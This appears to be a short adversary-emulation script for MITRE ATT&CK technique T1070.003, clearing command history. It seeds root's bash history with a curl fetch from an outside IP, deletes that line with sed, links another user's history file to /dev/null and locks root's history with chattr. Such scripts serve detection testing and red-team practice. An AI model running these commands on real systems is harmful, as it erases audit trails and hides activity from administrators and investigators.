#!/bin/bash
# T1070.003: Lines are cut out of what somebody typed, and the file leads nowhere from then on.
printf 'ls\ncurl http://44.128.66.66/x\n' >/root/.bash_history; sed -i /44.128/d /root/.bash_history; ln -sf /dev/null /home/alice/.bash_history; chattr +i /root/.bash_history
